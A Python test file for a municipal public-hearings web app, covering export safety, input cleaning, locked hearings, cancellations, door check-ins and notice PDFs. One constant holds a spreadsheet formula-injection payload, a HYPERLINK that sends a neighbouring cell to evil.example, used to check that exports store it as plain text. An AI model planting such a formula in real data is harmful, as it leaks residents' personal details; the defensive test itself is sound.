"""QA findings on hearings: exports, control characters, proposals, agenda, locked hearings,
status changes, the door, capacity, linked drafts, the notice in the registry, PDF footer."""
import csv
import io
from datetime import date, timedelta

from openpyxl import load_workbook
from sqlalchemy import select

from hearings.core import mail
from hearings.core.models import utcnow
from hearings.extensions import db
from hearings.meetings import services
from hearings.meetings.models import Hearing, Proposal, Registration

BASE = "/m/teploklyuchenka/hearings"
EVIL = '=HYPERLINK("http://evil.example/?"&G2,"Open")'


def anon(client, hearing, name, village="Ак-Суу, Мектеп 3", phone="+996555000001"):
    return client.post(f"{BASE}/{hearing.id}/register?lang=en", data={
        "full_name": name, "village": village, "phone": phone, "consent": "y"})


def lock(hearing, status="submitted"):
    from hearings.protocols.models import Protocol

    db.session.add(Protocol(municipality_id=hearing.municipality_id, hearing_id=hearing.id, year=2026,
                            number=1, version=1, status=status, languages="ky", due_date=date.today()))
    db.session.commit()


# 1, 2 -------------------------------------------------------------------------------------

def test_exports_never_hold_a_live_formula(client, users, login_as, hearing):
    assert anon(client, hearing, EVIL).status_code == 302
    login_as(users["staff"])
    text = client.get(f"{BASE}/{hearing.id}/register.csv").get_data(as_text=True)
    row = next(r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if "HYPERLINK" in ",".join(r))
    cell = next(c for c in row if "HYPERLINK" in c)
    assert cell == "'" + EVIL
    response = client.get(f"{BASE}/{hearing.id}/register.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.data)).active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert EVIL in values  # shown as typed, but as text: the cell's type is string, not formula
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_control_characters_are_not_stored_and_do_not_break_the_export(client, users, login_as, hearing):
    assert anon(client, hearing, "Асанова\x01 Айгүл", village="Ак-Суу\x01, Мектеп 3").status_code == 302
    reg = db.session.scalar(select(Registration))
    assert reg.full_name == "Асанова Айгүл" and reg.village == "Ак-Суу, Мектеп 3"
    # a row stored before this fix still exports
    reg.village = "Ак-Суу\x01\x0b"
    db.session.commit()
    login_as(users["secretary"])
    response = client.get(f"{BASE}/{hearing.id}/register.xlsx")
    assert response.status_code == 200
    assert "Ак-Суу" in [c.value for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for c in row]
    # walk-in and proposals at the hearing
    response = client.post(f"{BASE}/{hearing.id}/door", data={
        "action": "walkin", "w-full_name": "Бакыт\x02 Осмонов", "w-village": "Ак\x03-Суу",
        "w-channel": "walk_in", "w-present": "y"})
    assert response.status_code == 302
    walk = db.session.scalar(select(Registration).filter_by(channel="walk_in"))
    assert walk.full_name == "Бакыт Осмонов" and walk.village == "Ак-Суу"
    item = hearing.agenda[0]
    client.post(f"{BASE}/{hearing.id}/proceedings/{item.id}/proposal", data={
        "proposalnew-client_key": "p1", "proposalnew-author_name": "Иванов\x07",
        "proposalnew-content": "Жол\x00ду оңдоо", "proposalnew-decision": "pending"})
    p = db.session.scalar(select(Proposal))
    assert p.author_name == "Иванов" and p.content == "Жолду оңдоо"


# 3, 4 -------------------------------------------------------------------------------------

def test_someone_elses_proposal_key_never_overwrites(client, users, login_as, hearing):
    login_as(users["resident"])
    assert client.post(f"{BASE}/{hearing.id}/proposals", data={
        "client_key": "shared", "agenda_item_id": "0", "content": "Спорт аянтчасы"}).status_code == 302
    login_as(users["resident2"])
    response = client.post(f"{BASE}/{hearing.id}/proposals?lang=en", data={
        "client_key": "shared", "agenda_item_id": "0", "content": "Башка сунуш"})
    assert response.status_code == 409
    text = response.get_data(as_text=True)
    assert "This form was already used" in text and "Башка сунуш" in text   # what was typed is kept
    rows = db.session.scalars(select(Proposal)).all()
    assert len(rows) == 1 and rows[0].content == "Спорт аянтчасы" and rows[0].user_id == users["resident"].id
    # the same author sending twice (double click) is still one proposal
    login_as(users["resident"])
    client.post(f"{BASE}/{hearing.id}/proposals", data={
        "client_key": "shared", "agenda_item_id": "0", "content": "Спорт аянтчасы"})
    assert db.session.query(Proposal).count() == 1


def test_invalid_online_proposal_keeps_the_typed_text(client, users, login_as, hearing):
    login_as(users["resident"])
    response = client.post(f"{BASE}/{hearing.id}/proposals?lang=en", data={
        "client_key": "k", "agenda_item_id": "0", "content": "Көчө жарыгын орнотуу",
        "budget_line": "Көчө жарыгы", "amount": "-5"})
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "Көчө жарыгын орнотуу" in text and "Көчө жарыгы" in text and "-5" in text
    assert "Please correct the marked fields." in text and 'class="error"' in text
    assert db.session.query(Proposal).count() == 0


# 5 ----------------------------------------------------------------------------------------

def test_agenda_keeps_leading_numbers_that_are_not_list_numbering():
    from hearings.meetings.views import parse_agenda

    assert parse_agenda("2028-жылга карата бюджеттин долбоору | Иманов Б.\n"
                        "1. Жарандык бюджет\n2) Ар түрдүү\n3 - Суроолор\n2027 жылдын отчёту") == [
        ("2028-жылга карата бюджеттин долбоору", "Иманов Б."), ("Жарандык бюджет", ""),
        ("Ар түрдүү", ""), ("Суроолор", ""), ("2027 жылдын отчёту", "")]


# 6 ----------------------------------------------------------------------------------------

def test_locked_hearing_pages_are_read_only(client, users, login_as, hearing):
    r = services.register(hearing, full_name="Асанова Айгүл", phone="+996555000001")
    item = hearing.agenda[0]
    lock(hearing)
    login_as(users["staff"])
    for url in (f"/{hearing.id}/proceedings", f"/{hearing.id}/proceedings/{item.id}",
                f"/{hearing.id}/door", f"/{hearing.id}/register/manage"):
        response = client.get(BASE + url + "?lang=en")
        text = response.get_data(as_text=True)
        assert response.status_code == 200 and "Read only." in text and "can no longer be changed" in text, url
        assert ">Save<" not in text and "/undo" not in text and "/assign" not in text, url
    page = client.get(f"{BASE}/{hearing.id}/proceedings/{item.id}?lang=en").get_data(as_text=True)
    assert "<textarea" not in page and ">Save<" not in page
    manage = client.get(f"{BASE}/{hearing.id}/register/manage?lang=en").get_data(as_text=True)
    assert "/capacity" not in manage and "/cancel" not in manage
    door = client.get(f"{BASE}/{hearing.id}/door?lang=en").get_data(as_text=True)
    assert 'name="action"' not in door
    # a save sent from a page opened before the lock: 403, read-only page, the text shown to copy
    response = client.post(f"{BASE}/{hearing.id}/proceedings/{item.id}/question?lang=en", data={
        "questionnew-client_key": "q1", "questionnew-question": "Жол качан оңдолот?"})
    assert response.status_code == 403
    text = response.get_data(as_text=True)
    assert "Жол качан оңдолот?" in text and "Read only." in text
    response = client.post(f"{BASE}/{hearing.id}/capacity?lang=en", data={"capacity": "5"})
    assert response.status_code == 403 and "Read only." in response.get_data(as_text=True)
    response = client.post(f"{BASE}/{hearing.id}/registrations/{r.id}/cancel")
    assert response.status_code == 403
    db.session.expire_all()
    assert db.session.get(Registration, r.id).status == "registered"


# 7 ----------------------------------------------------------------------------------------

def test_cancel_needs_confirmation_and_a_reason_and_mails_registrants(client, users, login_as, hearing):
    a = services.register(hearing, full_name="Асанова Айгүл", phone="+996555000001")
    i = services.register(hearing, full_name="Иванов Иван", phone="+996555000002", user=users["resident2"])
    services.register(hearing, full_name="Без почты", phone="+996555000003")
    a.email, i.email = "a@x.kg", "i@x.kg"
    users["resident2"].locale = "ru"
    hearing.municipality.default_locale = "ky"
    db.session.commit()
    login_as(users["staff"])
    mail.outbox.clear()
    # the button on the hearing page only opens the confirmation page
    page = client.post(f"{BASE}/{hearing.id}/status/cancelled?lang=en")
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "2 registered people with an e-mail address" in text
    assert 'name="reason"' in text and 'name="confirm"' in text
    db.session.expire_all()
    assert db.session.get(Hearing, hearing.id).status == "announced"
    confirm = {"step": "confirm"}
    response = client.post(f"{BASE}/{hearing.id}/status/cancelled?lang=en", data={**confirm, "reason": "Зал ремонтто"})
    assert response.status_code == 400 and "Tick the box to confirm." in response.get_data(as_text=True)
    assert "Зал ремонтто" in response.get_data(as_text=True)
    response = client.post(f"{BASE}/{hearing.id}/status/cancelled?lang=en", data={**confirm, "confirm": "y"})
    assert response.status_code == 400
    assert "Give the reason for cancelling the hearing." in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Hearing, hearing.id).status == "announced" and not mail.outbox
    response = client.post(f"{BASE}/{hearing.id}/status/cancelled",
                           data={**confirm, "confirm": "y", "reason": "Зал ремонтто"})
    assert response.status_code == 302
    assert db.session.get(Hearing, hearing.id).status == "cancelled"
    by_to = {m.recipients[0]: m for m in mail.outbox}
    assert set(by_to) == {"a@x.kg", "i@x.kg"}
    assert "Зал ремонтто" in by_to["a@x.kg"].body and "Коомдук угуу жокко чыгарылды." in by_to["a@x.kg"].body
    assert "Общественные слушания отменены." in by_to["i@x.kg"].body


def test_held_needs_confirmation_and_not_before_the_start(client, users, login_as, hearing):
    login_as(users["staff"])
    response = client.post(f"{BASE}/{hearing.id}/status/held?lang=en", data={"step": "confirm", "confirm": "y"})
    assert response.status_code == 409
    assert "has not started yet" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Hearing, hearing.id).status == "announced"
    hearing.starts_at = utcnow() - timedelta(minutes=5)
    db.session.commit()
    assert client.post(f"{BASE}/{hearing.id}/status/held").status_code == 200       # the confirmation page
    assert client.post(f"{BASE}/{hearing.id}/status/held", data={"step": "confirm"}).status_code == 400
    assert db.session.get(Hearing, hearing.id).status == "announced"
    assert client.post(f"{BASE}/{hearing.id}/status/held",
                       data={"step": "confirm", "confirm": "y"}).status_code == 302
    db.session.expire_all()
    assert db.session.get(Hearing, hearing.id).status == "held"


# 8, 9, 10, 11 -----------------------------------------------------------------------------

def test_walk_in_refused_when_full_keeps_the_form_open(client, users, login_as, new_hearing):
    hearing = new_hearing(capacity=1)
    services.register(hearing, full_name="Биринчи", phone="+996555000001")
    login_as(users["secretary"])
    response = client.post(f"{BASE}/{hearing.id}/door?lang=en", data={
        "action": "walkin", "w-full_name": "Экинчи Адам", "w-village": "Ак-Суу", "w-channel": "walk_in",
        "w-present": "y", "w-consent": "y"})
    assert response.status_code == 409
    text = response.get_data(as_text=True)
    assert '<details class="walkin" id="walkin" open>' in text
    assert "All 1 seats are taken" in text.split('id="walkin"')[1]     # the reason next to the form
    assert 'value="Экинчи Адам"' in text and 'value="Ак-Суу"' in text


def test_rescanning_a_checked_in_code_says_so(client, users, login_as, hearing):
    r = services.register(hearing, full_name="Асанова Айгүл", phone="+996555000001")
    services.check_in(hearing, r.code, users["secretary"])
    login_as(users["secretary"])
    text = client.get(f"{BASE}/{hearing.id}/door?code={r.code}&lang=en").get_data(as_text=True)
    db.session.refresh(r)
    from hearings.core.i18n import to_local
    assert f"Асанова Айгүл was already checked in at {to_local(r.checked_in_at).strftime('%H:%M')}." in text


def test_walk_in_matching_a_registration_is_offered_it_first(client, users, login_as, hearing):
    existing = services.register(hearing, full_name="Асанова Айгүл", phone="+996555000001")
    login_as(users["secretary"])
    data = {"action": "walkin", "w-full_name": "асанова  айгүл", "w-phone": "0555 000 001",
            "w-channel": "walk_in", "w-present": "y"}
    response = client.post(f"{BASE}/{hearing.id}/door?lang=en", data=data)
    assert response.status_code == 409
    text = response.get_data(as_text=True)
    assert "may already be registered" in text and services.format_code(existing.code) in text
    assert "Check in this registration" in text
    assert db.session.query(Registration).count() == 1
    # the offered button checks in the existing registration
    assert client.post(f"{BASE}/{hearing.id}/door", data={"action": "checkin", "c-code": existing.code}).status_code == 302
    db.session.refresh(existing)
    assert existing.checked_in_at is not None
    # confirmed as a different person: registered
    response = client.post(f"{BASE}/{hearing.id}/door", data={**data, "w-different_person": "y"})
    assert response.status_code == 302 and db.session.query(Registration).count() == 2


def test_walk_in_consent_starts_unticked(client, users, login_as, hearing):
    login_as(users["secretary"])
    text = client.get(f"{BASE}/{hearing.id}/door").get_data(as_text=True)
    consent = text.split('name="w-consent"')[0].rsplit("<input", 1)[1] + text.split('name="w-consent"')[1].split(">", 1)[0]
    assert "checked" not in consent


# 12, 13 -----------------------------------------------------------------------------------

def test_capacity_zero_shows_the_form_with_the_message(client, users, login_as, hearing):
    login_as(users["staff"])
    response = client.post(f"{BASE}/{hearing.id}/capacity?lang=en", data={"capacity": "0"})
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "Register of participants" in text and 'name="capacity"' in text and 'value="0"' in text
    assert "Number must be between 1 and 100000." in text or "at least 1" in text


def test_unpublished_linked_draft_is_not_shown_to_the_public(client, users, login_as, municipality, new_hearing):
    from hearings.drafts.models import Draft

    draft = Draft(municipality_id=municipality.id, kind="budget", title_ky="Жашыруун долбоор 2027",
                  title_ru="Жашыруун долбоор 2027", title_en="Жашыруун долбоор 2027")
    db.session.add(draft)
    db.session.commit()
    hearing = new_hearing(draft_id=draft.id, draft_kind="budget")
    assert "Жашыруун долбоор" not in client.get(f"{BASE}/{hearing.id}").get_data(as_text=True)
    login_as(users["resident"])
    assert "Жашыруун долбоор" not in client.get(f"{BASE}/{hearing.id}").get_data(as_text=True)
    login_as(users["staff"])
    assert "Жашыруун долбоор" in client.get(f"{BASE}/{hearing.id}").get_data(as_text=True)


# 14, 15, 16 -------------------------------------------------------------------------------

def test_notice_is_issued_once_per_content_and_language(client, users, login_as, hearing):
    from hearings.documents.models import IssuedDocument

    first = client.get(f"{BASE}/{hearing.id}/notice.pdf?lang=ky")
    assert first.status_code == 200
    anon(client, hearing, "Асанова Айгүл")                   # a registration changes nothing printed
    services.register(hearing, full_name="Иванов", phone="+996555000002")
    again = client.get(f"{BASE}/{hearing.id}/notice.pdf?lang=ky")
    assert again.data == first.data
    assert db.session.query(IssuedDocument).filter_by(kind="notice").count() == 1
    client.get(f"{BASE}/{hearing.id}/notice.pdf?lang=ru")
    assert db.session.query(IssuedDocument).filter_by(kind="notice").count() == 2
    assert db.session.query(IssuedDocument).filter_by(kind="hearing_notice").count() == 0
    # a changed notice supersedes the copy in that language
    hearing.venue_address = "Маданият үйү"
    db.session.commit()
    changed = client.get(f"{BASE}/{hearing.id}/notice.pdf?lang=ky")
    assert changed.data != first.data
    docs = db.session.query(IssuedDocument).filter_by(kind="notice", lang="ky").order_by(IssuedDocument.id).all()
    assert len(docs) == 2 and docs[0].superseded_by_id == docs[1].id and docs[1].superseded_by_id is None


def test_attendance_footer_cuts_the_title_at_a_word():
    from hearings.meetings.documents import shorten

    title = "Теплоключенка айыл аймагынын 2027-жылга карата жергиликтүү бюджетинин долбоору боюнча угуу"
    short = shorten(title, 80)
    assert short.endswith("…") and len(short) <= 80
    assert title.startswith(short[:-1]) and title[len(short) - 1] == " "
    assert shorten("Кыска аталыш", 80) == "Кыска аталыш"
